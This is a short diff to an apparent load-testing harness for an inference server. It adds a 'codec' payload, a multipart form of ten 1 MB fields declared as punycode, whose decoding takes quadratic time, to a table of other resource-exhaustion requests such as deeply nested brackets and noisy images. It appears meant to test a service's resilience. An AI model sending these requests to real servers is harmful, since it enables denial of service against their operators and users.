@@ -205,6 +205,12 @@ def form() -> bytes:
 
 
 # The function that returns the request, and the number of clients that send it.
+def codec() -> bytes:
+    """Return a form with ten fields of 1 MB in a codec whose decoder takes quadratic time."""
+    part = b'--x\r\nContent-Disposition: form-data; name="only_digits"\r\n\r\n' + b"a" * (2**20 - 1) + b"\r\n"
+    return post(PREDICT, 10 * part + b"--x--\r\n", "Content-Type: multipart/form-data; boundary=x; charset=punycode")
+
+
 ATTACKS: dict[str, tuple[Callable[[], bytes], int]] = {
     "nothing": (bytes, 0),
     "PNG of one column": (png_of_one_column, 16),
@@ -215,6 +221,7 @@ ATTACKS: dict[str, tuple[Callable[[], bytes], int]] = {
     "decimals in JSON": (lambda: numbers("FP32", "0.1234567"), 16),
     "brackets in JSON": (lambda: post(INFER, b"[" * 2 * 2**20), 16),
     "forms": (form, 16),
+    "codec": (codec, 16),
     "noisy JPEGs": (lambda: noise("JPEG", 4000), 16),
     "30 noisy PNGs": (lambda: noise("PNG", 3900), 30),
 }
